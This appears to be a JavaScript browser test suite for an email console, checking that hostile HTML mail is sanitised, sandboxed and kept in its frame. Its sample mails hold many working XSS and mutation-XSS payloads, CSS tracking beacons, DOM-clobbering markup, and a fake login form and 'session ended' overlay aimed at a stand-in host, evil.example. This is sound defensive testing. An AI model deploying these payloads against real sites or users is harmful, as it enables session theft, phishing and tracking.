// Mail that means harm, in a real browser: nothing of it runs, nothing is asked for before a click, it stays in its
// frame, and what it paints is no part of the console. Then every mail with HTML that lies about, own cases and
// others' (BARID_CORPUS: a folder; where there is none, the own ones).

import assert from 'node:assert/strict'
import { existsSync, readdirSync, readFileSync } from 'node:fs'
import { extname, join, resolve } from 'node:path'
import { after, before, test } from 'node:test'
import { openBrowser, openOwner, openTalk } from './browser.mjs'
import { Engine, lmtp, source, until } from './engine.mjs'

const evil = 'https://evil.example'
let engine
let browser
let page
/** What the browser asked for that is not the console, and frames that went elsewhere. */
let asked = []

/** Whatever would run says so on the console's window. */
const mark = (who) => `top.hacked=(top.hacked||'')+' ${who}'`
/** A subject, its HTML; each has the text `visible` somewhere. */
const mails = [
  ['script', `<script>${mark('script')}</script><script src="${evil}/s.js"></script><p>visible</p>`],
  ['script in svg', `<svg><script>${mark('svg')}</script><a xlink:href="javascript:${mark('a')}"><text>x</text></a><animate onbegin="${mark('animate')}" attributeName=x dur=1s></svg><svg/onload=${mark('onload')}><p>visible</p>`],
  ['script in mathml', `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${mark('math')}&gt;"></table></mtext></math><p>visible</p>`],
  ['handlers', `<img src=x onerror="${mark('img')}"><body onload="${mark('body')}"><details open ontoggle="${mark('details')}"><p onmouseover="${mark('p')}" onclick="${mark('click')}">visible</p><input autofocus onfocus="${mark('focus')}"><video><source onerror="${mark('video')}"></video><marquee onstart="${mark('marquee')}">m</marquee>`],
  ['links', `<a href="javascript:${mark('link')}">a</a><a href=" jAva&#10;script:${mark('spaces')}">b</a><a href="data:text/html,<script>${mark('data')}</script>">c</a><a href="vbscript:x">d</a><p>visible</p>`],
  ['frames', `<iframe src="${evil}/f"></iframe><iframe srcdoc="<script>${mark('srcdoc')}</script>"></iframe><object data="${evil}/o"></object><embed src="${evil}/e"><frameset><frame src="${evil}/fs"></frameset><p>visible</p>`],
  ['refresh', `<meta http-equiv="refresh" content="0;url=${evil}/refresh"><meta http-equiv="Set-Cookie" content="barid=x"><base href="${evil}/" target="_top"><p>visible</p>`],
  ['forms', `<form action="${evil}/login" method="post"><input name="password" type="password" autofocus><button>Sign in</button></form><isindex action="${evil}/i"><button formaction="${evil}/b">x</button><p>visible</p>`],
  ['styles', `<style>@import url(${evil}/i.css);@font-face{font-family:x;src:url(${evil}/f.woff)}*{background:url(${evil}/b.png)}</style><link rel="stylesheet" href="${evil}/l.css"><div style="background-image:url('${evil}/d.png');list-style:url(${evil}/li.png);cursor:url(${evil}/c.cur),auto;content:url(${evil}/co.png);border-image:url(${evil}/bi.png);mask:url(${evil}/m.svg)">visible</div><p style="width:expression(${mark('expression')});behavior:url(${evil}/h.htc);-moz-binding:url(${evil}/x.xml)">p</p>`],
  ['styles in disguise', `<p style="background:u\\72l(${evil}/esc.png)">visible</p><p style="background:/**/url(${evil}/com.png)">x</p><p style="--x:url(${evil}/var.png);background:var(--x)">x</p><p style="background:image-set('${evil}/set.png' 1x)">x</p>`],
  ['pictures', `<img src="${evil}/p.png"><img src="//evil.example/q.png"><img srcset="${evil}/r.png 2x" src="http://evil.example/s.png"><picture><source srcset="${evil}/t.png"><img src="${evil}/u.png"></picture><table background="${evil}/v.png"><tr><td background="${evil}/w.png">visible</td></tr></table><video poster="${evil}/x.png" src="${evil}/y.mp4"></video><audio src="${evil}/z.mp3" autoplay></audio><svg><image href="${evil}/i.png"/></svg><input type="image" src="${evil}/n.png">`],
  ['pictures of the desk', `<img src="/api/v1/session"><img src="/api/v1/conversations?limit=1"><iframe src="/inbox/open"></iframe><link rel="prefetch" href="/api/v1/people"><p>visible</p>`],
  ['looking ahead', `<link rel="dns-prefetch" href="//evil.example"><link rel="preconnect" href="${evil}"><link rel="prefetch" href="${evil}/pf"><link rel="preload" as="image" href="${evil}/pl"><link rel="modulepreload" href="${evil}/mp"><a href="${evil}/" ping="${evil}/ping">visible</a>`],
  ['broken on purpose', `<p title="</title><img src=x onerror=${mark('title')}>">visible</p><noscript><p title="</noscript><img src=x onerror=${mark('noscript')}>"></noscript><textarea></textarea><img src="x\` \`><script>${mark('backtick')}</script>"><xmp><img src=x onerror=${mark('xmp')}></xmp><!--><img src=x onerror=${mark('comment')}>--><plaintext>`],
  ['names that clobber', `<form name="body"><input name="firstChild"></form><img name="documentElement"><a id="root">x</a><a id="hacked" name="hacked">y</a><p>visible</p>`],
  ['templates and slots', `<template shadowrootmode="open"><script>${mark('shadow')}</script><style>:host{background:url(${evil}/host.png)}</style></template><slot></slot><dialog open><p>visible</p></dialog><custom-element onfocus="${mark('custom')}" tabindex=1 autofocus></custom-element>`],
]

const said = (name) => page.frameLocator('article iframe').getByText(name).first()

before(async () => {
  engine = await Engine.start()
  browser = await openBrowser()
  page = await openOwner(browser, engine)
  // no name is looked up outside; what would be is told all the same
  await page.context().route(
    (url) => url.origin !== engine.url && url.protocol.startsWith('http'),
    (route) => route.fulfill({ contentType: 'text/html', body: '' }),
  )
  page.context().on('request', (request) => {
    const url = request.url()
    if (url.startsWith('data:') || url.startsWith('blob:')) return
    let frame
    try {
      frame = request.frame()
    } catch {
      // of no page's frame
    }
    const mail = frame && frame.parentFrame() !== null
    if (!url.startsWith(engine.url) || (mail && !/\/api\/v1\/mails\/\d+\/html$/.test(new URL(url).pathname))) asked.push(url)
  })
})
after(async () => {
  await browser?.close()
  await engine?.stop()
})

const ask = (path) => page.evaluate(async (where) => (await fetch(where)).json(), path)
const hacked = () => page.evaluate(() => (typeof window.hacked === 'string' ? window.hacked : undefined))

test('nothing of a hostile mail runs, and nothing is asked for', async () => {
  await Promise.all(mails.map(([subject, html]) => engine.deliver({ from: `${subject.replaceAll(' ', '.')}@evil.example`, subject: `Hostile: ${subject}`, html })))
  await page.goto('/inbox/open')
  for (const [subject] of mails) {
    await openTalk(page, `Hostile: ${subject}`)
    await said('visible').waitFor()
    const left = await page.locator('article iframe').evaluate((frame) => {
      const all = [...frame.contentDocument.querySelectorAll('body, body *')]
      const named = all.map((one) => one.tagName.toLowerCase()).filter((name) => /^(script|style|link|meta|base|iframe|object|embed|form|input|button|textarea|select|svg|math|template|dialog|video|audio|source|frame|frameset|plaintext|noscript)$/.test(name) || name.includes('-'))
      const handlers = all.flatMap((one) => [...one.attributes].filter(({ name, value }) => name.startsWith('on') || ['id', 'name', 'srcset', 'ping', 'formaction', 'background'].includes(name) || /^\s*(j\s*a\s*v\s*a|vb)\s*script:/i.test(value) || /url\(/i.test(value)).map(({ name, value }) => `${name}=${value}`))
      return [...named, ...handlers]
    })
    assert.deepEqual(left, [], subject)
  }
  assert.equal(await hacked(), undefined)
  assert.deepEqual(asked, [])
  // a browser reports each script that a frame's sandbox or policy held back: there was none to hold back
  assert.deepEqual(page.errors, [])
})

test('a mail stays in its frame: it covers nothing of the console and moves no page', async () => {
  const cover = 'position:fixed;position:absolute;inset:0;top:-900px;left:-900px;width:9000px;height:9000px;z-index:2147483647;margin:-2000px;transform:translate(-3000px,-3000px) scale(20)'
  await engine.deliver({
    from: 'cover@evil.example',
    subject: 'Hostile: cover',
    html: `<div style="${cover}">Your session has ended</div><p>visible</p><a href="${evil}/top" target="_top">to the top</a> <a href="${evil}/parent" target="_parent">to the parent</a> <a href="${evil}/name" target="mail">by name</a> <a href="/inbox/closed" target="_self">in place</a>`,
  })
  await openTalk(page, 'Hostile: cover')
  await said('visible').waitFor()
  const box = await page.locator('article iframe').boundingBox()
  const card = await page.locator('article', { has: page.locator('iframe') }).boundingBox()
  assert.ok(box.x >= card.x && box.y >= card.y && box.x + box.width <= card.x + card.width + 1 && box.y + box.height <= card.y + card.height + 1, 'the frame lies within its card')
  for (const name of ['Close', 'Snooze']) {
    const button = page.locator('main header').getByRole('button', { name }).first()
    assert.ok(
      await button.evaluate((one) => {
        const { left, top, width, height } = one.getBoundingClientRect()
        return one.contains(document.elementFromPoint(left + width / 2, top + height / 2))
      }),
      `${name} can be clicked`,
    )
  }
  const here = page.url()
  const frame = page.frames().find((one) => one.parentFrame() === page.mainFrame())
  const inside = frame.url()
  for (const name of ['to the top', 'to the parent', 'by name']) {
    const opened = page.context().waitForEvent('page')
    await page.frameLocator('article iframe').getByText(name).click()
    const other = await opened
    await other.waitForURL(/evil/)
    assert.deepEqual(await other.evaluate(() => [window.opener, document.referrer]), [null, ''], 'what was opened does not know who opened it')
    await other.close()
  }
  // a link without a server is none
  assert.equal(await page.frameLocator('article iframe').getByText('in place').getAttribute('href'), null)
  assert.equal(page.url(), here)
  assert.equal(frame.url(), inside)
  // only what was clicked on was asked for, and without saying from where
  assert.deepEqual(asked.splice(0).toSorted(), [`${evil}/name`, `${evil}/parent`, `${evil}/top`])
  assert.deepEqual(page.errors, [])
})

test('neither can a mail that is opened by itself, outside of the console', async () => {
  const found = await ask('/api/v1/conversations?limit=200')
  const { id } = found.items.find((one) => one.subject === 'Hostile: script')
  const { html } = (await ask(`/api/v1/conversations/${id}`)).timeline.find((one) => one.mail).mail
  const alone = await page.context().newPage()
  const answer = await alone.goto(html)
  const policy = answer.headers()['content-security-policy']
  for (const part of [/default-src 'none'/, /sandbox/, /form-action 'none'/]) assert.match(policy, part)
  assert.doesNotMatch(policy, /allow-scripts|unsafe-eval|script-src (?!'none')/)
  assert.equal(answer.headers()['x-content-type-options'], 'nosniff')
  await alone.getByText('visible').waitFor()
  await alone.close()
  assert.deepEqual(asked, [])
})

/** The mails of a folder and all below it; HTML that is no mail becomes one. */
function mailsIn(folder) {
  return readdirSync(folder, { withFileTypes: true, recursive: true })
    .filter((one) => one.isFile())
    .flatMap((one) => {
      const path = join(one.parentPath ?? one.path, one.name)
      const bytes = readFileSync(path, 'latin1')
      if (extname(path) === '.html') return [{ path, bytes: `From: page@shop.example\r\nSubject: page\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${bytes}` }]
      return /^content-type:\s*text\/html/im.test(bytes) && extname(path) !== '.json' ? [{ path, bytes }] : []
    })
}

test('of all mails with HTML that there are, none runs anything or asks for anything', async () => {
  const corpus = process.env.BARID_CORPUS ?? resolve(source, '../shared/corpus')
  const all = [join(source, 'tests/runtime/mail/cases'), ...(existsSync(corpus) ? [corpus] : [])].flatMap(mailsIn)
  assert.ok(all.length >= 40, `${all.length} mails`)
  const total = async () => {
    const ids = []
    let cursor = ''
    do {
      const got = await ask(`/api/v1/conversations?limit=200${cursor && `&cursor=${encodeURIComponent(cursor)}`}`)
      ids.push(...got.items.map((one) => one.id))
      cursor = got.next
    } while (cursor)
    return ids
  }
  const before = new Set(await total())
  for (let at = 0; at < all.length; at += 10)
    await Promise.all(
      all.slice(at, at + 10).map(({ bytes }) => lmtp(engine.lmtp, 'sender@shop.example', 'support@acme.example', Buffer.from(bytes.replace(/\r?\n/g, '\r\n').replace(/^\./gm, '..'), 'latin1'))),
    )
  await until('all of them to be routed', async () => (await ask('/api/v1/channel-states')).items.every((one) => one.undecided === 0), 120_000)
  const sandbox = await page.locator('article iframe').getAttribute('sandbox')
  assert.doesNotMatch(sandbox, /allow-scripts|allow-top-navigation|allow-forms|allow-modals/)
  const shown = await page.evaluate(
    async ([ids, allowed]) => {
      const look = async (id) => {
        const { timeline } = await (await fetch(`/api/v1/conversations/${id}`)).json()
        const urls = timeline.map((one) => one.mail?.html).filter(Boolean)
        const frames = urls.map((url) => Object.assign(document.createElement('iframe'), { sandbox: allowed, src: url }))
        await Promise.all(
          frames.map((frame) => {
            const loaded = new Promise((go) => frame.addEventListener('load', go))
            document.querySelector('main').append(frame)
            return loaded
          }),
        )
        // what a picture or a style would ask for, it has asked for by the next frame
        await new Promise((go) => requestAnimationFrame(() => requestAnimationFrame(go)))
        const found = frames.map((frame) => frame.contentDocument.querySelectorAll('script, body style, iframe, form, link, object, embed, svg').length)
        for (const frame of frames) frame.remove()
        return urls.map((url, at) => [url, found[at]])
      }
      const out = []
      for (let at = 0; at < ids.length; at += 10) out.push(...(await Promise.all(ids.slice(at, at + 10).map(look))).flat())
      return out
    },
    [(await total()).filter((id) => !before.has(id)), sandbox],
  )
  assert.ok(shown.length >= all.length / 2, `${shown.length} of ${all.length} have HTML that is shown`)
  assert.deepEqual(shown.filter(([, bad]) => bad > 0), [])
  assert.deepEqual(asked, [])
  assert.equal(await hacked(), undefined)
  assert.deepEqual(page.errors, [])
})
